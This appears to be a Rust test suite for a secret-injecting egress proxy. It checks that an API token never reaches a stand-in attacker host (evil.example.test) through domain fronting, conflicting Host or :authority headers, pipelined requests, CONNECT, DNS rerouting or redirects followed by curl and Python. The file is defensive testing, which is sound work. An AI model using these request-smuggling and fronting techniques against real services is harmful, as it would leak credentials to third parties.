//! The ways to have a secret sent to another server than its own: by every name that a connection or a request has, for a secret that is
//! injected and for one that stands behind a placeholder. Whatever each upstream received is searched, byte by byte.

use harness::{HOST, Lab, Origin, Running, Settings, Transport, User, Versions, for_each_user};
use serde_json::{Value, json};

use crate::programs::{CURL, MATRIX, PYTHON, SH};

for_each_user!(
    names_that_disagree,
    two_hosts_on_one_server,
    a_name_that_leads_elsewhere,
    redirects_lead_without_it,
);

const GOOD: &str = HOST;
const EVIL: &str = "evil.example.test";
const EVIL_ADDRESS: &str = "198.51.100.9";
/// Where names are dialled; which one is no matter.
const ANYWHERE: &str = "198.51.100.1";

/// How the secret comes into a request.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Style {
    Inject,
    Placeholder,
}

const STYLES: [Style; 2] = [Style::Inject, Style::Placeholder];

/// Everything is allowed; only the secret is bound.
fn policy(style: Style, hosts: &str) -> String {
    let (handler, placeholder) = match style {
        Style::Inject => ("inject: { x-auth-token: '${T}' }", ""),
        Style::Placeholder => ("inject: { x-nothing: '1' }", ", placeholder: { env: FAKE }"),
    };
    format!(
        r#"
allowedHosts: ["*.example.test", "{EVIL_ADDRESS}"]
outboundByHost:
  {GOOD}: {{ handlers: [h], upgrade: https }}
  one.example.test: h
handlers: {{ h: {{ {handler} }} }}
secrets: {{ T: {{ env: API_TOKEN, hosts: [{hosts}]{placeholder} }} }}
"#
    )
}

/// A connection, what is to come of it, and whether the secret is to be seen by its server.
struct Row {
    what: &'static str,
    sent: Value,
    told: Value,
    arrives: bool,
}

/// What the workload says of itself in each request.
fn marked(style: Style, lines: &str) -> String {
    let mark = if style == Style::Placeholder { "x-p: FAKE\r\n" } else { "" };
    format!("{lines}\r\n{mark}\r\n")
}

fn over_tls(name: Option<&str>, address: &str, requests: &[String]) -> Value {
    json!({ "address": address, "port": 443, "name": name, "requests": requests })
}

fn plain(address: &str, requests: &[String]) -> Value {
    json!({ "address": address, "port": 80, "requests": requests })
}

fn get(style: Style, target: &str, host: &str) -> String {
    marked(style, &format!("GET {target} HTTP/1.1\r\nhost: {host}"))
}

/// The status where it goes to `evil` as any request: what holds a placeholder does not.
fn without(style: Style) -> u16 {
    if style == Style::Inject { 200 } else { 403 }
}

fn rows(style: Style) -> Vec<Row> {
    let mut rows = tls_rows(style);
    rows.extend(http1_rows(style));
    rows.extend(http2_rows(style));
    rows.extend(plain_rows(style));
    rows
}

fn row(what: &'static str, sent: Value, told: Value, arrives: bool) -> Row {
    Row { what, sent, told, arrives }
}

/// The name of a connection against the name of a request.
fn tls_rows(style: Style) -> Vec<Row> {
    let good = || vec![get(style, "/", GOOD)];
    let evil = || vec![get(style, "/", EVIL)];
    let port = |host: &str| {
        let mut sent = over_tls(Some(GOOD), ANYWHERE, &[get(style, "/", host)]);
        sent["port"] = 8443.into();
        sent
    };
    vec![
        row("as it should be", over_tls(Some(GOOD), ANYWHERE, &good()), json!([200]), true),
        row("dialled evil", over_tls(Some(GOOD), EVIL_ADDRESS, &good()), json!([200]), true),
        row("evil itself", over_tls(Some(EVIL), EVIL_ADDRESS, &evil()), json!([without(style)]), false),
        row("fronting", over_tls(Some(GOOD), ANYWHERE, &evil()), json!([421]), false),
        row("back to front", over_tls(Some(EVIL), ANYWHERE, &good()), json!([421]), false),
        row("no server name", over_tls(None, ANYWHERE, &good()), json!([421]), false),
        row("no server name, dialled evil", over_tls(None, EVIL_ADDRESS, &good()), json!([421]), false),
        row(
            "an address",
            over_tls(None, EVIL_ADDRESS, &[get(style, "/", EVIL_ADDRESS)]),
            json!([without(style)]),
            false,
        ),
        row(
            "an address under the name of good",
            over_tls(Some(GOOD), EVIL_ADDRESS, &[get(style, "/", EVIL_ADDRESS)]),
            json!([421]),
            false,
        ),
        row("another port", port(&format!("{GOOD}:8443")), json!([403]), false),
        row("dialled another port", port(GOOD), json!([421]), false),
        row(
            "said another port",
            over_tls(Some(GOOD), ANYWHERE, &[get(style, "/", &format!("{GOOD}:8443"))]),
            json!([421]),
            false,
        ),
    ]
}

/// HTTP/1.1 has two names in each request, and many requests on a connection.
fn http1_rows(style: Style) -> Vec<Row> {
    let one = |lines: String| over_tls(Some(GOOD), ANYWHERE, &[marked(style, &lines)]);
    let then =
        |second: &str| over_tls(Some(GOOD), ANYWHERE, &[get(style, "/1", GOOD), get(style, "/2", second)]);
    let pipelined = |second: &str| {
        let mut sent = then(second);
        sent["pipelined"] = true.into();
        sent
    };
    let hosts = |first: &str, second: &str| one(format!("GET / HTTP/1.1\r\nhost: {first}\r\nhost: {second}"));
    let absolute = |url: &str, host: &str| one(format!("GET {url} HTTP/1.1\r\nhost: {host}"));
    vec![
        row("two hosts", hosts(GOOD, EVIL), json!([400]), false),
        row("two hosts, evil first", hosts(EVIL, GOOD), json!([400]), false),
        row("the same host twice", hosts(GOOD, GOOD), json!([400]), false),
        row("a list of hosts", one(format!("GET / HTTP/1.1\r\nhost: {GOOD}, {EVIL}")), json!([400]), false),
        row("a user", one(format!("GET / HTTP/1.1\r\nhost: {GOOD}@{EVIL}")), json!([400]), false),
        row("no host", one("GET / HTTP/1.1\r\nx: y".to_owned()), json!([400]), false),
        row("absolute", absolute(&format!("https://{GOOD}/"), GOOD), json!([200]), true),
        row("absolute evil", absolute(&format!("https://{EVIL}/"), GOOD), json!([400]), false),
        row("absolute, host evil", absolute(&format!("https://{GOOD}/"), EVIL), json!([400]), false),
        row("absolute and plain", absolute(&format!("http://{GOOD}/"), GOOD), json!([400]), false),
        row("a path like a host", absolute(&format!("//{EVIL}/"), GOOD), json!([200]), true),
        row("a second request", then(GOOD), json!([200, 200]), true),
        row("a second request for evil", then(EVIL), json!([200, 421]), true),
        row("both at once", pipelined(EVIL), json!([200, 421]), true),
        row("trace", one(format!("TRACE / HTTP/1.1\r\nhost: {GOOD}")), json!([405]), false),
        row("connect", one(format!("CONNECT {EVIL}:443 HTTP/1.1\r\nhost: {EVIL}:443")), json!([405]), false),
        row(
            "connect to good",
            one(format!("CONNECT {GOOD}:443 HTTP/1.1\r\nhost: {GOOD}")),
            json!([405]),
            false,
        ),
        row(
            "a range, and an expectation",
            one(format!(
                "GET /range HTTP/1.1\r\nhost: {GOOD}\r\nrange: bytes=0-0\r\nrequest-range: bytes=0-0\r\nif-range: x\r\nexpect: 100-continue"
            )),
            json!([200]),
            true,
        ),
    ]
}

/// HTTP/2 has `:authority`, and may have `host` as well.
fn http2_rows(style: Style) -> Vec<Row> {
    let fields = |method: &str, others: &[(&str, &str)]| {
        let mut fields = vec![json!([":method", method]), json!([":scheme", "https"]), json!([":path", "/"])];
        fields.extend(others.iter().map(|(name, value)| json!([name, value])));
        if style == Style::Placeholder {
            fields.push(json!(["x-p", "FAKE"]));
        }
        fields
    };
    let sent = |requests: Vec<Vec<Value>>| json!({ "address": ANYWHERE, "port": 443, "name": GOOD, "requests": requests });
    let one = |others: &[(&str, &str)]| sent(vec![fields("GET", others)]);
    let (good, evil) = ((":authority", GOOD), (":authority", EVIL));
    vec![
        row("h2", one(&[good]), json!([200]), true),
        row("h2, host agrees", one(&[good, ("host", GOOD)]), json!([200]), true),
        row("h2, host evil", one(&[good, ("host", EVIL)]), json!([400]), false),
        row("h2, authority evil", one(&[evil]), json!([421]), false),
        row("h2, authority evil, host good", one(&[evil, ("host", GOOD)]), json!([400]), false),
        row("h2, two hosts", one(&[good, ("host", EVIL), ("host", GOOD)]), json!([400]), false),
        row("h2, host only", one(&[("host", GOOD)]), json!([400]), false),
        row("h2, only the host of evil", one(&[("host", EVIL)]), json!([400]), false),
        row("h2, two authorities", one(&[good, evil]), json!(["closed"]), false),
        row(
            "h2, a second request for evil",
            sent(vec![fields("GET", &[good]), fields("GET", &[evil]), fields("GET", &[good])]),
            json!([200, 421, 200]),
            true,
        ),
        row("h2, trace", sent(vec![fields("TRACE", &[good])]), json!([405]), false),
    ]
}

/// What comes without TLS for `good` leaves with it.
fn plain_rows(style: Style) -> Vec<Row> {
    let one = |lines: String| plain(ANYWHERE, &[marked(style, &lines)]);
    let hosts = |first: &str, second: &str| one(format!("GET / HTTP/1.1\r\nhost: {first}\r\nhost: {second}"));
    let evil = || json!([without(style)]);
    vec![
        row("plain", plain(ANYWHERE, &[get(style, "/", GOOD)]), json!([200]), true),
        row("plain, dialled evil", plain(EVIL_ADDRESS, &[get(style, "/", GOOD)]), json!([200]), true),
        row("plain evil", plain(EVIL_ADDRESS, &[get(style, "/", EVIL)]), evil(), false),
        row("plain, two hosts", hosts(GOOD, EVIL), json!([400]), false),
        row(
            "plain, absolute",
            one(format!("GET http://{GOOD}/ HTTP/1.1\r\nhost: {GOOD}")),
            json!([200]),
            true,
        ),
        row(
            "plain, host evil",
            one(format!("GET http://{GOOD}/ HTTP/1.1\r\nhost: {EVIL}")),
            json!([400]),
            false,
        ),
        row(
            "plain, absolute evil",
            one(format!("GET http://{EVIL}/ HTTP/1.1\r\nhost: {GOOD}")),
            json!([400]),
            false,
        ),
        row(
            "plain, a second request for evil",
            plain(ANYWHERE, &[get(style, "/", GOOD), get(style, "/", EVIL), get(style, "/", GOOD)]),
            json!([200, without(style), 200]),
            true,
        ),
        row("plain trace", one(format!("TRACE / HTTP/1.1\r\nhost: {GOOD}")), json!([405]), false),
    ]
}

fn told(running: &mut Running<'_>, sent: &Value) -> Value {
    serde_json::from_str(&running.ask(&sent.to_string())).unwrap()
}

fn names_that_disagree(user: User) {
    let lab = Lab::new(user);
    let named = |names: &[&str], transport: Transport| {
        let names = names.iter().map(ToString::to_string).collect();
        // Spelled out on the wire.
        Settings { names, transport, versions: Versions::Http1, ..Settings::default() }
    };
    let tls = Settings::default().transport;
    let good = lab.origin(named(&[GOOD], tls));
    let others = [
        ("evil", lab.origin(named(&[EVIL, EVIL_ADDRESS], tls))),
        ("plain good", lab.origin(named(&[GOOD], Transport::Plain))),
        ("plain evil", lab.origin(named(&[EVIL, EVIL_ADDRESS], Transport::Plain))),
    ];
    let origins: Vec<&Origin> = [&good].into_iter().chain(others.iter().map(|(_, origin)| origin)).collect();
    let mut wrong = Vec::new();
    for style in STYLES {
        let policy = policy(style, &format!("'https://{GOOD}:443'"));
        let mut running = lab.run(&policy, &origins).start(&[PYTHON, "-c", MATRIX]);
        for row in rows(style) {
            let before = good.heard().len();
            let told = told(&mut running, &row.sent);
            let heard = good.heard().split_off(before.min(good.heard().len()));
            let arrived = lab.canary.found(&heard).is_some();
            if told != row.told || arrived != row.arrives {
                wrong.push(format!("{style:?}, {}: {told}, the secret arrived: {arrived}", row.what));
            }
            for (name, other) in &others {
                if lab.canary.found(&other.heard()).is_some() {
                    wrong.push(format!("{style:?}, {}: {name} has the secret", row.what));
                }
            }
        }
        drop(running.finish().ok());
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    let seen = good.requests();
    let asks_for_less = ["range", "request-range", "if-range", "expect"];
    for seen in seen.iter().filter(|seen| seen.uri.path() == "/range") {
        assert!(asks_for_less.iter().all(|name| !seen.headers.contains_key(*name)), "{:?}", seen.headers);
    }
    let asked = |origin: &Origin| origin.requests().len();
    assert!(asked(&others[0].1) > 0 && asked(&others[1].1) == 0 && asked(&others[2].1) > 0);
}

/// At one address and with one certificate, as a large provider has them: neither a connection to it nor one to us is shared.
fn two_hosts_on_one_server(user: User) {
    let lab = Lab::new(user);
    let names = ["one.example.test", "two.example.test"].map(str::to_owned);
    for (style, versions) in [(Style::Inject, Versions::Http2), (Style::Placeholder, Versions::Http1)] {
        let origin = lab.origin(Settings { names: names.to_vec(), versions, ..Settings::default() });
        let fake = if style == Style::Placeholder { r#"-H "x-p: $FAKE""# } else { "" };
        let [one, two] = &names;
        // As a browser would, over one connection to each name, several requests at once.
        let urls = format!("https://{one}/1 https://{two}/2 ").repeat(8);
        let marked = format!("https://{one}/1 ").repeat(2);
        let script = format!(
            "{CURL} -sS -Z --http2 {urls} && {CURL} -sS {fake} {marked} && {CURL} -sS -o /dev/null {urls}"
        );
        let run = lab.run(&policy(style, "one.example.test"), &[&origin]);
        drop(run.finish(&[SH, "-c", &script]).ok());
        let seen = origin.requests();
        let connections = |path: &str| -> Vec<u64> {
            seen.iter().filter(|one| one.uri.path() == path).map(|one| one.connection).collect()
        };
        let (ones, twos) = (connections("/1"), connections("/2"));
        assert_eq!((ones.len(), twos.len()), (18, 16));
        assert!(ones.iter().all(|connection| !twos.contains(connection)), "{ones:?} {twos:?}");
        for seen in &seen {
            let is_there = seen.headers.values().any(|value| lab.canary.found(value.as_bytes()).is_some());
            assert!(seen.uri.path() == "/1" || !is_there, "{style:?}: {}", seen.uri);
        }
        assert!(lab.canary.found(&origin.heard()).is_some());
    }
}

/// By a poisoned answer of DNS, say, and after the right one: a server that cannot prove the name gets nothing, over TLS as well as after
/// an upgrade to it.
fn a_name_that_leads_elsewhere(user: User) {
    let lab = Lab::new(user);
    let good = lab.origin(Settings::default());
    let evil = lab.origin(Settings { names: vec![EVIL.to_owned()], ..Settings::default() });
    for style in STYLES {
        let to = |origin: &Origin| {
            let leads = format!("resolve: {{ {GOOD}: '127.0.0.1:{}' }}", origin.addresses()[0].port());
            format!("{}\n{leads}", policy(style, GOOD))
        };
        let sent = [
            over_tls(Some(GOOD), ANYWHERE, &[get(style, "/", GOOD)]),
            plain(ANYWHERE, &[get(style, "/", GOOD)]),
        ];
        let mut running = lab.run(&to(&good), &[]).start(&[PYTHON, "-c", MATRIX]);
        assert_eq!(sent.each_ref().map(|sent| told(&mut running, sent)), [json!([200]), json!([200])]);
        assert!(running.apply(&to(&evil)).status.success());
        assert_eq!(sent.each_ref().map(|sent| told(&mut running, sent)), [json!([502]), json!([502])]);
        drop(running.finish_abrupt().ok());
    }
    assert!(lab.canary.found(&good.heard()).is_some() && evil.requests().is_empty());
    lab.canary.assert_absent("what evil received", &evil.heard());
}

/// To wherever the client goes, its next request is one of its own.
fn redirects_lead_without_it(user: User) {
    let lab = Lab::new(user);
    let tls = Settings::default().transport;
    let named =
        |name: &str, transport| Settings { names: vec![name.to_owned()], transport, ..Settings::default() };
    let good = lab.origin(named(GOOD, tls));
    let (evil, plain_evil) = (lab.origin(named(EVIL, tls)), lab.origin(named(EVIL, Transport::Plain)));
    let python = "import os, sys, urllib.error, urllib.request
for url in sys.argv[1:]:
    try:
        urllib.request.urlopen(urllib.request.Request(url, headers={'x-p': os.environ.get('FAKE', '-')}))
        print(200)
    except urllib.error.HTTPError as error:
        print(error.code)";
    for style in STYLES {
        let urls: String =
            ["https", "http"].map(|scheme| format!(" 'https://{GOOD}/moved?{scheme}://{EVIL}/'")).concat();
        // Unlike with `Authorization`, curl does send such a header on.
        let script = format!(
            "{CURL} -sSL -H \"x-p: $FAKE\" -o /dev/null -o /dev/null -w '%{{http_code}}\\n' {urls} && exec {PYTHON} -c \"$0\" {urls}"
        );
        let origins = [&good, &evil, &plain_evil];
        let finished = lab.run(&policy(style, GOOD), &origins).finish(&[SH, "-c", &script, python]).ok();
        let expected = format!("{}\n", without(style)).repeat(4);
        assert_eq!(finished.stdout, expected, "{style:?}");
    }
    assert!(lab.canary.found(&good.heard()).is_some());
    for (origin, name) in [(&evil, "evil"), (&plain_evil, "evil without TLS")] {
        assert_eq!(origin.requests().len(), 2, "{name}");
        lab.canary.assert_absent(name, &origin.heard());
    }
}
